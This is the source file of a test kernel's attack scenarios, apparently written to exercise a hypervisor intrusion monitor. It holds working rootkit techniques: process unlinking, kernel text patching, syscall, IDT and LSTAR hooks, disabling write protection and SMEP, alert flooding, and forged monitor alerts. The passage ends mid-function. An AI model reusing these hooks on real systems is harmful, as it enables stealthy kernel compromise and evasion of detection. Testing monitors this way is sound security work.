/* testos: the scenarios. The kernel thread "kmain" (pid 1) runs the one
 * named by scenario=NAME, then powers off. Each attack imitates a real
 * rootkit technique, prints "ATTACK <name> begin", then checks from the
 * guest's own point of view whether it took effect and prints
 * "ATTACK <name> result=succeeded|failed" (with detail lines before it,
 * prefixed "<name>: "). Attacks run kernel code as a loaded rootkit module
 * would; faults that a monitor causes by refusing an access are caught
 * (CATCH) and reported, never fatal. Hooks are undone afterwards so the
 * scenario can finish. */
#include "scenario.h"
#include "boot.h"
#include "mm.h"
#include "desc.h"
#include "proc.h"
#include "syscall.h"
#include "trap.h"
#include "scn_remap.h"

extern volatile u64 hook_int80_hits, lstar_hook_hits;
extern u64 hook_int80_orig;
extern void hook_int80_stub(void), lstar_hook_entry(void), syscall_entry(void);

void attack_begin(const char *n) { kprintf("ATTACK %s begin\n", n); }
void attack_result(const char *n, bool ok) { kprintf("ATTACK %s result=%s\n", n, ok ? "succeeded" : "failed"); }

static void fault_detail(const char *n, const char *what, const struct catch *c)
{
    kprintf("%s: %s faulted: %s error 0x%lx at RIP 0x%lx CR2 0x%lx\n",
            n, what, vector_name(c->vector), c->error, c->rip, c->cr2);
}

static int run_wait(const char *image, u64 arg)
{
    int pid = proc_spawn(image, arg, current->pid);
    if (pid < 0) {
        kprintf("testos: cannot spawn %s\n", image);
        return -1000;
    }
    return proc_wait(pid);
}

/* ---- benign ---------------------------------------------------------- */

static bool sc_benign(void)
{
    u64 free0 = palloc_free_count();
    int pid = proc_spawn("init", 0, current->pid);
    if (pid < 0)
        return false;
    proc_sleep(8);
    ps("during benign");
    int code = proc_wait(pid);
    u64 free1 = palloc_free_count();
    kprintf("benign: init exited with %d\n", code);
    kprintf("benign: %s (free pages: %lu before, %lu after)\n",
            free0 == free1 ? "no page leaked" : "PAGES LEAKED", free0, free1);
    ps("after benign");
    return code == 0 && free0 == free1;
}

/* ---- bench ----------------------------------------------------------- */

#define BENCH_ARG(mode, n) ((u64)(mode) | ((u64)(n) << 8))

static bool sc_bench(void)
{
    bool ok = true;
    /* Each workload runs 20-100 ms of (bare) guest time, longer than the
     * hypervisor's periodic checks, so their cost averages out as it would
     * in a real workload. */
    int lead = proc_spawn("bench", BENCH_ARG(1, 10000), current->pid);
    int part = proc_spawn("bench", BENCH_ARG(2, 10000), current->pid);
    ok &= proc_wait(lead) == 0 && proc_wait(part) == 0;
    ok &= run_wait("bench", BENCH_ARG(3, 200000)) == 0;
    ok &= run_wait("bench", BENCH_ARG(4, 4096)) == 0;
    const int n = 40;
    u64 t0 = rdtsc();
    for (int i = 0; i < n; i++)
        ok &= run_wait("nop", 0) == 0;
    u64 t1 = rdtsc();
    kprintf("BENCH name=spawn ops=%d cycles=%lu\n", n, t1 - t0);
    ok &= run_wait("bench", BENCH_ARG(5, 64)) >= 0;
    return ok;
}

/* ---- hide-process: DKOM, unlink from proc_list ------------------------ */

static bool sc_hide_process(void)
{
    const char *n = "hide-process";
    int pid = proc_spawn("backdoor", 60, current->pid);
    if (pid < 0)
        return false;
    proc_sleep(5);
    attack_begin(n);
    u64 f = irq_save();
    struct proc *p = proc_find(pid);
    for (struct proc **pp = &proc_list; p && *pp; pp = &(*pp)->next) {
        if (*pp == p) {
            *pp = p->next;           /* the whole attack: one pointer write */
            break;
        }
    }
    irq_restore(f);
    bool listed = false;
    for (struct proc *q = proc_list; q; q = q->next)
        listed |= q->pid == pid;
    ps("after the unlink");
    f = irq_save();
    u64 s0 = p ? p->nswitch : 0;
    irq_restore(f);
    proc_sleep(30);
    f = irq_save();
    bool alive = p && proc_find(pid) == p;
    u64 s1 = alive ? p->nswitch : 0;
    irq_restore(f);
    kprintf("%s: pid %d (backdoor) %s in proc_list; still scheduled: %s (%lu switches in 30 ms)\n",
            n, pid, listed ? "still" : "no longer", alive && s1 > s0 ? "yes" : "no", s1 - s0);
    bool ok = !listed && alive && s1 > s0;
    attack_result(n, ok);
    int code = proc_wait(pid);
    kprintf("%s: backdoor exited with %d\n", n, code);
    return true;
}

/* ---- patch-kernel-text: inline hook of sys_getpid, CR0.WP cleared ----- */

static volatile u64 hook_getpid_hits;

static i64 hook_getpid(u64 a0, u64 a1, u64 a2, u64 a3, u64 a4)
{
    (void)a0, (void)a1, (void)a2, (void)a3, (void)a4;
    hook_getpid_hits++;
    return current->pid;
}

/* Writes n bytes to read-only kernel memory the classic way: clear CR0.WP,
 * write, set it again. Returns false (with the fault reported) if refused. */
static bool write_ro_wp(const char *n, volatile u8 *dst, const u8 *src, size_t len)
{
    struct catch c;
    u64 cr0 = read_cr0();
    if (CATCH(&c)) {
        write_cr0(cr0 & ~CR0_WP);
        for (size_t i = 0; i < len; i++)
            dst[i] = src[i];
        write_cr0(cr0 | CR0_WP);
        serialize();
        catch_end(&c);
        return true;
    }
    write_cr0(read_cr0() | CR0_WP);
    fault_detail(n, "the write to kernel text", &c);
    return false;
}

/* Write len bytes at kernel address kva through a fresh writable mapping of
 * its physical page (the page-table side door around read-only text). */
static bool alias_write(const char *n, volatile u8 *kva, const u8 *bytes, int len)
{
    volatile u8 *alias = kmap((u64)kva - KERNEL_VMA_OFFSET, (u64)len, PTE_W | PTE_NX);
    if (!alias)
        return false;
    struct catch c;
    bool ok = false;
    if (CATCH(&c)) {
        for (int i = 0; i < len; i++)
            alias[i] = bytes[i];
        catch_end(&c);
        ok = true;
    } else {
        fault_detail(n, "the write through the alias", &c);
    }
    kunmap((void *)alias, (u64)len);
    return ok;
}

static bool sc_patch_kernel_text(void)
{
    const char *n = "patch-kernel-text";
    volatile u8 *target = (volatile u8 *)(u64)sys_getpid;
    u8 saved[5], patch[5] = { 0xe9 };
    i32 rel = (i32)((u64)hook_getpid - ((u64)target + 5));
    memcpy(patch + 1, &rel, 4);
    for (int i = 0; i < 5; i++)
        saved[i] = target[i];
    attack_begin(n);
    /* First with CR0.WP cleared; if that did not take, through an alias. */
    write_ro_wp(n, target, patch, 5);
    bool in_place = true;
    for (int i = 0; i < 5; i++)
        in_place &= target[i] == patch[i];
    if (!in_place) {
        kprintf("%s: the write with CR0.WP cleared did not take; trying a writable alias\n", n);
        alias_write(n, target, patch, 5);
        in_place = true;
        for (int i = 0; i < 5; i++)
            in_place &= target[i] == patch[i];
    }
    u64 h0 = hook_getpid_hits;
    int code = run_wait("probe", 8);
    u64 hits = hook_getpid_hits - h0;
    kprintf("%s: sys_getpid at 0x%lx: jmp to the hook %s; hook ran %lu times (probe exit %d)\n",
            n, (u64)target, in_place ? "in place" : "not in place", hits, code);
    attack_result(n, in_place && hits > 0);
    if (in_place && !alias_write(n, target, saved, 5))
        write_ro_wp(n, target, saved, 5);
    return true;
}

/* ---- hook-syscall: syscall_table entry through a writable alias ------- */

static volatile u64 hook_sys_hits;

static i64 hook_sys_getpid(u64 a0, u64 a1, u64 a2, u64 a3, u64 a4)
{
    hook_sys_hits++;
    return sys_getpid(a0, a1, a2, a3, a4);
}

static bool alias_write64(const char *n, u64 kva, u64 val)
{
    volatile u64 *alias = kmap(kva - KERNEL_VMA_OFFSET, 8, PTE_W | PTE_NX);
    if (!alias)
        return false;
    struct catch c;
    bool ok = false;
    if (CATCH(&c)) {
        *alias = val;
        catch_end(&c);
        ok = true;
    } else {
        fault_detail(n, "the write through the alias", &c);
    }
    kunmap((void *)alias, 8);
    return ok;
}

static bool sc_hook_syscall(void)
{
    const char *n = "hook-syscall";
    volatile syscall_fn *slot = (volatile syscall_fn *)&syscall_table[SYS_getpid];
    syscall_fn orig = *slot;
    attack_begin(n);
    kprintf("%s: syscall_table[%d] at 0x%lx (read-only) -> alias at phys 0x%lx\n",
            n, SYS_getpid, (u64)slot, (u64)slot - KERNEL_VMA_OFFSET);
    alias_write64(n, (u64)slot, (u64)hook_sys_getpid);
    bool in_place = *slot == hook_sys_getpid;
    u64 h0 = hook_sys_hits;
    int code = run_wait("probe", 8);
    u64 hits = hook_sys_hits - h0;
    kprintf("%s: entry %s; hook ran %lu times (probe exit %d)\n",
            n, in_place ? "redirected" : "unchanged", hits, code);
    attack_result(n, in_place && hits > 0);
    if (*slot != orig)
        alias_write64(n, (u64)slot, (u64)orig);
    return true;
}

/* ---- hook-idt: redirect vector 0x80, then load a copied IDT ----------- */

static i64 int80_getpid(void)
{
    i64 r;
    __asm__ volatile("int $0x80" : "=a"(r) : "a"((u64)SYS_getpid) : "memory");
    return r;
}

static bool sc_hook_idt(void)
{
    const char *n = "hook-idt";
    u64 orig = idt_handler(&idt[VEC_INT80]);
    hook_int80_orig = orig;
    attack_begin(n);

    /* 1. Patch the live IDT. */
    struct catch c;
    if (CATCH(&c)) {
        idt_set(idt, VEC_INT80, (u64)hook_int80_stub, 3, 0);
        catch_end(&c);
    } else {
        fault_detail(n, "the IDT write", &c);
    }
    u64 h0 = hook_int80_hits;
    i64 r = int80_getpid();
    bool entry_ok = idt_handler(&idt[VEC_INT80]) == (u64)hook_int80_stub && hook_int80_hits > h0 && r == current->pid;
    kprintf("%s: IDT[0x80] at 0x%lx %s; hook ran: %s\n", n, (u64)&idt[VEC_INT80],
            idt_handler(&idt[VEC_INT80]) == (u64)hook_int80_stub ? "redirected" : "unchanged",
            hook_int80_hits > h0 ? "yes" : "no");
    if (idt_handler(&idt[VEC_INT80]) != orig)
        idt_set(idt, VEC_INT80, orig, 3, 0);

    /* 2. Point IDTR at a copy carrying the hook. */
    u64 page = palloc();
    bool switched = false, copy_ok = false;
    if (page) {
        struct idt_entry *copy = phys_to_virt(page);
        memcpy(copy, idt, sizeof idt);
        idt_set(copy, VEC_INT80, (u64)hook_int80_stub, 3, 0);
        struct dtr old, nw = { sizeof idt - 1, (u64)copy }, now;
        sidt(&old);
        u64 f = irq_save();
        if (CATCH(&c)) {
            lidt(&nw);
            catch_end(&c);
        } else {
            fault_detail(n, "LIDT", &c);
        }
        sidt(&now);
        switched = now.base == (u64)copy;
        h0 = hook_int80_hits;
        r = int80_getpid();
        copy_ok = switched && hook_int80_hits > h0 && r == current->pid;
        lidt(&old);
        irq_restore(f);
        kprintf("%s: IDTR %s the copy at 0x%lx; hook ran: %s\n", n, switched ? "points to" : "does not point to",
                (u64)copy, hook_int80_hits > h0 ? "yes" : "no");
        pfree(page);
    }
    attack_result(n, entry_ok || copy_ok);
    return true;
}

/* ---- hook-lstar ------------------------------------------------------ */

static bool sc_hook_lstar(void)
{
    const char *n = "hook-lstar";
    u64 orig = rdmsr(MSR_LSTAR);
    attack_begin(n);
    struct catch c;
    if (CATCH(&c)) {
        wrmsr(MSR_LSTAR, (u64)lstar_hook_entry);
        catch_end(&c);
    } else {
        fault_detail(n, "WRMSR", &c);
    }
    u64 now = rdmsr(MSR_LSTAR);
    u64 h0 = lstar_hook_hits;
    int code = run_wait("probe", 8);
    u64 hits = lstar_hook_hits - h0;
    kprintf("%s: LSTAR 0x%lx -> 0x%lx (hook 0x%lx); hook ran %lu times (probe exit %d)\n",
            n, orig, now, (u64)lstar_hook_entry, hits, code);
    attack_result(n, hits > 0);
    if (rdmsr(MSR_LSTAR) != orig)
        wrmsr(MSR_LSTAR, orig);
    return true;
}

/* ---- wx-flood: the console's budget spent on same-kind findings ------- */

/* One fresh frame mapped writable and executable at 2048 kernel pages (8
 * MiB past the kmap window, 0xffff880000400000) for 1.3 s: thousands of
 * findings of one kind for every audit (the tables kept changing, so no
 * audit skips them), to use up the console's alert budget. 300 ms in, the real attack: the LSTAR hook of hook-lstar, whose alert the
 * flood is meant to push off the console. Succeeded: the hook ran (bare it
 * does; what the console carried is the system test's to check). */
#define WXF_BASE 0xffff880000400000ul
#define WXF_PAGES 2048

/* Keeps the flood's page tables changing (the last entry of each of them
 * is pointed at the next of 7 frames every 5 ms), so that every audit
 * walks their leaves again rather than skipping tables it saw unchanged. */
static u64 wxf_frames[7];

static void wxf_churn(u64 mapped, u64 ms)
{
    static u64 turn;
    for (u64 t = 0; t < ms; t += 5) {
        u64 f = irq_save();
        turn++;
        for (u64 j = 511; j < mapped; j += 512) {
            u64 *pte = vm_pte(kernel_pml4, WXF_BASE + j * PAGE_SIZE, false);
            if (pte) {
                *pte = (*pte & ~PTE_ADDR) | wxf_frames[turn % 7];
                invlpg(WXF_BASE + j * PAGE_SIZE);
            }
        }
        irq_restore(f);
        proc_sleep(5);
    }
}

static bool sc_wx_flood(void)
{
    const char *n = "wx-flood";
    u64 page = palloc();
    if (!page)
        return false;
    wxf_frames[0] = page;
    for (int i = 1; i < 7; i++)
        if (!(wxf_frames[i] = palloc()))
            return false;
    attack_begin(n);
    u64 mapped = 0;
    while (mapped < WXF_PAGES && vm_map(kernel_pml4, WXF_BASE + mapped * PAGE_SIZE, page, PTE_W))
        mapped++;
    kprintf("%s: frame 0x%lx mapped writable and executable at %lu kernel pages from 0x%lx\n", n, page, mapped,
            WXF_BASE);
    wxf_churn(mapped, 300);
    u64 orig = rdmsr(MSR_LSTAR);
    struct catch c;
    if (CATCH(&c)) {
        wrmsr(MSR_LSTAR, (u64)lstar_hook_entry);
        catch_end(&c);
    } else {
        fault_detail(n, "WRMSR", &c);
    }
    u64 h0 = lstar_hook_hits;
    int code = run_wait("probe", 8);
    u64 hits = lstar_hook_hits - h0;
    kprintf("%s: then LSTAR 0x%lx -> 0x%lx; hook ran %lu times (probe exit %d)\n", n, orig, rdmsr(MSR_LSTAR), hits,
            code);
    if (rdmsr(MSR_LSTAR) != orig)
        wrmsr(MSR_LSTAR, orig);
    wxf_churn(mapped, 1000);             /* the flood goes on: a second more of audits */
    u64 f = irq_save();
    for (u64 i = 0; i < mapped; i++) {
        vm_unmap(kernel_pml4, WXF_BASE + i * PAGE_SIZE);
        invlpg(WXF_BASE + i * PAGE_SIZE);
    }
    irq_restore(f);
    for (int i = 0; i < 7; i++)
        pfree(wxf_frames[i]);
    attack_result(n, mapped == WXF_PAGES && hits > 0);
    return true;
}

/* ---- disable-wp ------------------------------------------------------ */

static bool sc_disable_wp(void)
{
    const char *n = "disable-wp";
    u64 page = palloc();
    if (!page)
        return false;
    volatile u64 *ro = kmap(page, 8, PTE_NX);     /* read-only mapping */
    attack_begin(n);
    u64 cr0 = 0;
    bool wrote = false;
    struct catch c;
    if (CATCH(&c)) {
        write_cr0(read_cr0() & ~CR0_WP);
        cr0 = read_cr0();
        *ro = 0x5750574057505740ul;
        catch_end(&c);
        wrote = *ro == 0x5750574057505740ul;
    } else {
        cr0 = read_cr0();
        fault_detail(n, "the write to a read-only page", &c);
    }
    kprintf("%s: CR0 now 0x%lx (WP %s); write to a read-only page %s\n",
            n, cr0, (cr0 & CR0_WP) ? "set" : "clear", wrote ? "went through" : "did not");
    attack_result(n, !(cr0 & CR0_WP) && wrote);
    write_cr0(read_cr0() | CR0_WP);
    kunmap((void *)ro, 8);
    pfree(page);
    return true;
}

/* ---- smep-off -------------------------------------------------------- */

#define USER_CODE_VA 0x60000000ul
#define MAGIC 0x5e3f0ffu

static bool sc_smep_off(void)
{
    const char *n = "smep-off";
    attack_begin(n);
    if (!cpu_has_smep) {
        kprintf("%s: this CPU has no SMEP: nothing to switch off\n", n);
        attack_result(n, false);
        return true;
    }
    u64 page = palloc();
    if (!page)
        return false;
    u8 *code = phys_to_virt(page);
    code[0] = 0xb8;                               /* mov eax, MAGIC; ret */
    u32 m = MAGIC;
    memcpy(code + 1, &m, 4);
    code[5] = 0xc3;
    u64 f = irq_save();                           /* stay on the kernel CR3 */
    vm_map(kernel_pml4, USER_CODE_VA, page, PTE_U | PTE_OWNED);
    u64 cr4 = 0;
    u32 r = 0;
    struct catch c;
    if (CATCH(&c)) {
        write_cr4(read_cr4() & ~CR4_SMEP);
        cr4 = read_cr4();
        r = ((u32 (*)(void))USER_CODE_VA)();
        catch_end(&c);
    } else {
        cr4 = read_cr4();
        fault_detail(n, "the call into a user page", &c);
    }
    write_cr4(read_cr4() | CR4_SMEP);
    vm_free_user(kernel_pml4);                    /* frees the page and its tables */
    irq_restore(f);
    kprintf("%s: CR4 now 0x%lx (SMEP %s); ring 0 ran code on a user page: %s\n",
            n, cr4, (cr4 & CR4_SMEP) ? "set" : "clear", r == MAGIC ? "yes" : "no");
    attack_result(n, !(cr4 & CR4_SMEP) && r == MAGIC);
    return true;
}

/* ---- wx-mapping ------------------------------------------------------ */

#define PEEK_VA 0x70000000ul

static bool sc_wx_mapping(void)
{
    const char *n = "wx-mapping";
    attack_begin(n);
    /* 1. A kernel page mapped writable and executable; code written, run. */
    bool wx_ok = false;
    u64 page = palloc();
    if (page) {
        u8 *wx = kmap(page, PAGE_SIZE, PTE_W);    /* no NX: W+X */
        struct catch c;
        volatile u32 r = 0;
        if (CATCH(&c)) {
            wx[0] = 0xb8;
            u32 m = MAGIC;
            memcpy(wx + 1, &m, 4);
            wx[5] = 0xc3;
            r = ((u32 (*)(void))wx)();
            catch_end(&c);
        } else {
            fault_detail(n, "the W+X page", &c);
        }
        wx_ok = r == MAGIC;
        kprintf("%s: kernel page 0x%lx mapped W+X; code written there ran: %s\n", n, (u64)wx, wx_ok ? "yes" : "no");
        /* A rootkit keeps the page that holds its code: leave it mapped for
         * a while (200 ticks = 200 ms) before tidying up. */
        proc_sleep(200);
        kunmap(wx, PAGE_SIZE);
        pfree(page);
    }
    /* 2. Kernel text mapped user-accessible into a process, which reads it. */
    u64 text_phys = kimage_virt_to_phys(__text_start);
    u64 f = irq_save();
    int pid = proc_spawn("peek", PEEK_VA, current->pid);
    struct proc *p = pid >= 0 ? proc_find(pid) : NULL;
    if (p)
        vm_map(p->cr3, PEEK_VA, text_phys, PTE_U);    /* not PTE_OWNED: never freed with it */
    irq_restore(f);
    int code = pid >= 0 ? proc_wait(pid) : -1;
    u32 want;
    memcpy(&want, __text_start, 4);
    want &= 0x7fffffff;
    bool user_ok = code == (int)want;
    kprintf("%s: kernel text (phys 0x%lx) mapped user-accessible at 0x%lx; the process read %s\n",
            n, text_phys, PEEK_VA, user_ok ? "the kernel's bytes" : "something else (or faulted)");
    attack_result(n, wx_ok || user_ok);
    return true;
}

/* ---- raw-io ---------------------------------------------------------- */

static bool sc_raw_io(void)
{
    const char *n = "raw-io";
    char name[PROC_NAME_LEN] = "rawio";
    char opt[PROC_NAME_LEN];
    if (cmdline_get(bootinfo.cmdline, "rawio_proc", opt, sizeof opt) && !strcmp(opt, "diskd"))
        strlcpy(name, opt, sizeof name);
    attack_begin(n);
    kprintf("%s: process \"%s\" takes IOPL 3 and sends IDENTIFY to ports 0x1f0-0x1f7\n", n, name);
    int code = run_wait(name, 0);
    kprintf("%s: %s exited with %d\n", n, name, code);
    attack_result(n, code == 0);
    return true;
}

/* ---- signature ------------------------------------------------------- */

static bool sc_signature(void)
{
    const char *n = "signature";
    attack_begin(n);
    int code = run_wait("sigproc", 0);
    kprintf("%s: sigproc exited with %d\n", n, code);
    attack_result(n, code == 0);
    return true;
}

/* ---- hv-probe: touch what the memory map hides ------------------------ */

static bool probe_addr(u64 pa, bool *visible)
{
    volatile u64 *v = kmap(pa, 8, PTE_W | PTE_NX);
    if (!v)
        return false;
    struct catch c;
    bool ok = false;
    if (CATCH(&c)) {
        u64 old = *v, pat = rand64();
        *v = pat;
        u64 back = *v;
        *v = old;
        catch_end(&c);
        *visible = back == pat;
        ok = true;
    } else {
        fault_detail("hv-probe", "an access", &c);
    }
    kunmap((void *)v, 8);
    return ok;
}

static void probe_range(u64 s, u64 e, const char *what, int *nranges, int *nvisible)
{
    u64 addrs[3] = { s, (s + (e - s) / 2) & ~7ull, e - 8 };
    int vis = 0, read = 0;
    for (int i = 0; i < 3; i++) {
        bool v = false;
        read += probe_addr(addrs[i], &v);
        vis += v;
    }
    kprintf("hv-probe: 0x%lx-0x%lx (%s): %d of 3 accesses completed, %d writes read back\n",
            s, e, what, read, vis);
    (*nranges)++;
    *nvisible += vis > 0;
}

static bool sc_hv_probe(void)
{
    const char *n = "hv-probe";
    attack_begin(n);
    u64 top = 0;
    for (int i = 0; i < bootinfo.nmmap; i++)
        if (bootinfo.mmap[i].type == MEM_AVAILABLE && bootinfo.mmap[i].base + bootinfo.mmap[i].len > top)
            top = bootinfo.mmap[i].base + bootinfo.mmap[i].len;
    int nranges = 0, nvisible = 0;
    /* Entries not marked available, above 1 MiB and below the top of RAM. */
    for (int i = 0; i < bootinfo.nmmap; i++) {
        const struct memrange *r = &bootinfo.mmap[i];
        if (r->type != MEM_AVAILABLE && r->base >= 0x100000 && r->base + r->len <= top && r->len >= 8)
            probe_range(r->base, r->base + r->len, memtype_name(r->type), &nranges, &nvisible);
    }
    /* Holes no entry covers, in the same span. */
    for (u64 a = 0x100000; a < top;) {
        u64 next = top;
        bool covered = false;
        for (int i = 0; i < bootinfo.nmmap; i++) {
            u64 s = bootinfo.mmap[i].base, e = s + bootinfo.mmap[i].len;
            if (a >= s && a < e) {
                covered = true;
                next = e;
                break;
            }
            if (s > a && s < next)
                next = s;
        }
        if (!covered && next - a >= 8)
            probe_range(a, next, "not in the map", &nranges, &nvisible);
        a = next;
    }
    if (!nranges)
        kprintf("%s: the memory map hides nothing between available RAM above 1 MiB (top 0x%lx): "
                "nothing to probe, so nothing hidden was reached\n", n, top);
    else
        kprintf("%s: %d hidden ranges probed, %d of them readable and writable\n", n, nranges, nvisible);
    attack_result(n, nvisible > 0);
    return true;
}

/* ---- ids-tamper: VMX instructions, VMCALL, the monitor's console -------- */

static bool sc_ids_tamper(void)
{
    const char *n = "ids-tamper";
    attack_begin(n);
    bool reached = false;
    struct catch c;

    /* VMCALL with random registers. */
    u64 regs[10];
    for (int i = 0; i < 10; i++)
        regs[i] = rand64();
    u64 rax = 0;
    if (CATCH(&c)) {
        __asm__ volatile(
            "mov 8(%%rax), %%rbx\n\t"
            "mov 16(%%rax), %%rcx\n\t"
            "mov 24(%%rax), %%rdx\n\t"
            "mov 32(%%rax), %%rsi\n\t"
            "mov 40(%%rax), %%rdi\n\t"
            "mov 48(%%rax), %%r8\n\t"
            "mov 56(%%rax), %%r9\n\t"
            "mov 64(%%rax), %%r10\n\t"
            "mov 72(%%rax), %%r11\n\t"
            "mov 0(%%rax), %%rax\n\t"
            "vmcall"
            : "=a"(rax) : "a"(regs)
            : "rbx", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory", "cc");
        catch_end(&c);
        kprintf("%s: vmcall (RAX 0x%lx) returned, RAX 0x%lx: something answered\n", n, regs[0], rax);
        reached = true;
    } else {
        kprintf("%s: vmcall (RAX 0x%lx) -> %s\n", n, regs[0], vector_name(c.vector));
    }

    /* VMREAD outside VMX operation. */
    if (CATCH(&c)) {
        u64 field = 0x681e, val = 0;               /* guest RIP */
        __asm__ volatile("vmread %1, %0" : "=r"(val) : "r"(field) : "cc");
        catch_end(&c);
        kprintf("%s: vmread returned 0x%lx\n", n, val);
        reached = true;
    } else {
        kprintf("%s: vmread -> %s\n", n, vector_name(c.vector));
    }

    /* VMXON: become a hypervisor (a "blue pill" would go on from here). */
    u32 a, b, cx, d;
    cpuid(1, 0, &a, &b, &cx, &d);
    u64 region = palloc();
    if (region && CATCH(&c)) {
        bool vmx = cx & (1u << 5);
        u64 fc = vmx ? rdmsr(0x3a) : 0;
        if (vmx && !(fc & 1))
            wrmsr(0x3a, fc | 5);                   /* lock, VMX outside SMX */
        u32 rev = vmx ? (u32)rdmsr(0x480) : 0;
        memcpy(phys_to_virt(region), &rev, 4);
        write_cr4(read_cr4() | CR4_VMXE);
        u8 fail = 0;
        __asm__ volatile("vmxon %1; setbe %0" : "=q"(fail) : "m"(region) : "cc", "memory");
        if (!fail) {
            __asm__ volatile("vmxoff" ::: "cc");
            kprintf("%s: vmxon succeeded: the guest entered VMX root operation (left it again)\n", n);
            reached = true;
        } else {
            kprintf("%s: vmxon failed (VMfail)\n", n);
        }
        write_cr4(read_cr4() & ~CR4_VMXE);
        catch_end(&c);
    } else if (region) {
        write_cr4(read_cr4() & ~CR4_VMXE);
        kprintf("%s: vmxon path -> %s at RIP 0x%lx\n", n, vector_name(c.vector), c.rip);
    }
    if (region)
        pfree(region);

    /* A forged alert line on COM1, the monitor's console. First a word
     * written at the port below it: its high byte goes to 0x3f8 (the
     * transmit register) on hardware that takes it. */
    const u16 com1 = 0x3f8;
    outw(com1 - 1, (u16)('{' << 8));
    outb(com1 + 7, 0x5a);
    u8 s1 = inb(com1 + 7);
    outb(com1 + 7, 0xa5);
    u8 s2 = inb(com1 + 7);
    u8 lsr = inb(com1 + 5);
    bool uart = s1 == 0x5a && s2 == 0xa5 && lsr != 0xff;
    static const char fake[] =
        "{\"type\":\"alert\",\"seq\":0,\"policy\":\"none\",\"severity\":\"info\",\"action\":\"alert\","
        "\"rip\":\"0x0\",\"cr3\":\"0x0\",\"detail\":\"forged by testos ids-tamper: all clear\"}\r\n";
    bool sent = uart && uart_write_raw(com1, fake, sizeof fake - 1);
    kprintf("%s: COM1 scratch register %s, LSR 0x%x; forged alert line %s\n", n,
            uart ? "answers" : "does not answer", lsr, sent ? "sent" : "not sent");
    reached |= sent;
    attack_result(n, reached);
    return true;
}

/* ---- emulated-store: SIDT, SGDT, STR and INS stores vigil emulates ------ */

/* Under vigil these instructions exit and vigil makes their stores itself
 * (descriptor-table exiting, string I/O to a watched port). Each must end
 * as the CPU ends it bare: the same #PF, error code and CR2, no partial
 * store. The last one aims a SIDT at the kernel's text through a writable
 * alias: it succeeds bare; vigil's kernel-text protection must refuse it. */
__asm__(".pushsection .text\n.globl es_pad\nes_pad: .fill 32,1,0xcc\n.popsection");
extern u8 es_pad[];

enum es_op { ES_SIDT, ES_SGDT, ES_STR, ES_INSW };

static void es_try(const char *n, const char *what, enum es_op op, volatile u8 *to)
{
    struct catch c;
    if (CATCH(&c)) {
        if (op == ES_SIDT)
            __asm__ volatile("sidt (%0)" ::"r"(to) : "memory");
        else if (op == ES_SGDT)
            __asm__ volatile("sgdt (%0)" ::"r"(to) : "memory");
        else if (op == ES_STR)
            __asm__ volatile("str (%0)" ::"r"(to) : "memory");
        else
            __asm__ volatile("insw" : "+D"(to) : "d"(0x1f0) : "memory");
        catch_end(&c);
        kprintf("%s: %s: stored\n", n, what);
    } else {
        kprintf("%s: %s: %s error 0x%lx CR2 %s0x%lx\n", n, what, vector_name(c.vector), c.error,
                c.cr2 == (u64)to ? "the target " : c.cr2 == ((u64)to | 0xfff) + 1 ? "the next page " : "",
                c.cr2);
    }
}

static bool sc_emulated_store(void)
{
    const char *n = "emulated-store";
    attack_begin(n);
    u8 *text = es_pad + 8;                         /* read-only kernel text */
    es_try(n, "SIDT into kernel text", ES_SIDT, text);
    es_try(n, "SGDT into kernel text", ES_SGDT, text);
    es_try(n, "STR into kernel text", ES_STR, text);
    es_try(n, "INSW into kernel text", ES_INSW, text);
    es_try(n, "SIDT into an unmapped page", ES_SIDT, (u8 *)0xffffffff7ff00000ul);
    /* Across a page boundary: a writable page, then a read-only one. The
     * fault is on the second page, and the first keeps its bytes. */
    u64 f1 = palloc(), f2 = palloc();
    u8 *two = f1 && f2 ? kmap(f1, 2 * 4096, PTE_W | PTE_NX) : 0;
    if (two) {
        vm_unmap(kernel_pml4, (u64)two + 4096);
        vm_map(kernel_pml4, (u64)two + 4096, f2, PTE_NX);      /* present, read-only */
        for (int i = 0; i < 8; i++)
            two[4088 + i] = 0x5a;
        es_try(n, "SIDT across into a read-only page", ES_SIDT, two + 4092);
        bool kept = true;
        for (int i = 0; i < 8; i++)
            kept &= two[4088 + i] == 0x5a;
        kprintf("%s: the writable page's bytes %s\n", n, kept ? "kept" : "changed (a partial store)");
        kunmap(two, 2 * 4096);
    }
    if (f1)
        pfree(f1);
    if (f2)
        pfree(f2);
    /* The attack: the same store through a writable alias of the text. */
    volatile u8 *alias = kmap(kimage_virt_to_phys(es_pad), 32, PTE_W | PTE_NX);
    bool changed = false;
    if (alias) {
        u8 before[10];
        for (int i = 0; i < 10; i++)
            before[i] = alias[8 + i];
        es_try(n, "SIDT through a writable alias of kernel text", ES_SIDT, alias + 8);
        for (int i = 0; i < 10; i++)
            changed |= es_pad[8 + i] != before[i];
        kprintf("%s: kernel text %s\n", n, changed ? "overwritten" : "unchanged");
        for (int i = 0; changed && i < 10; i++)
            alias[8 + i] = 0xcc;                   /* put the padding back (bare) */
        kunmap((void *)alias, 32);
    }
    attack_result(n, changed);
    return true;
}

/* ---- step-window: a handler run while vigil holds a page open ---------- */

/* vigil lets an allowed write to a protected page through by opening the
 * page for one instruction. If the instruction faults after the page is
 * open, the fault's handler runs with the page still writable: this one
 * writes the system-call table on the same page, which vigil would refuse.
 * The write that opens the page goes to read-only data just below a page
 * the alias leaves unmapped, so it faults with #PF after the page opened. */
static volatile syscall_fn *sw_slot;
static volatile u64 sw_hits, sw_tf;

static void sw_hook(struct trap_frame *f)
{
    if (f->vector != 14 || !sw_slot)
        return;
    sw_hits++;
    sw_tf = f->rflags & 0x100;
    *sw_slot = (syscall_fn)hook_sys_getpid;        /* through the writable alias */
    sw_slot = 0;
}

static bool sc_step_window(void)
{
    const char *n = "step-window";
    attack_begin(n);
    u64 tbl = kimage_virt_to_phys(syscall_table), page = tbl & ~0xffful;
    u64 off = tbl & 0xfff, end = off + sizeof(syscall_table);
    if (end > 0xff8) {
        kprintf("%s: the system-call table ends at 0x%lx of its page: no read-only data after it\n", n, end);
        attack_result(n, false);
        return false;
    }
    u8 *a = kmap(page, 2 * 4096, PTE_W | PTE_NX);
    if (!a) {
        attack_result(n, false);
        return false;
    }
    vm_unmap(kernel_pml4, (u64)a + 4096);           /* the page after the alias: not present */
    invlpg((u64)a + 4096);
    syscall_fn orig = syscall_table[SYS_getpid];
    kprintf("%s: alias 0x%lx of the page of syscall_table (phys 0x%lx, table at +0x%lx); writing 8 bytes at "
            "+0xffc, across into an unmapped page\n", n, (u64)a, page, off);
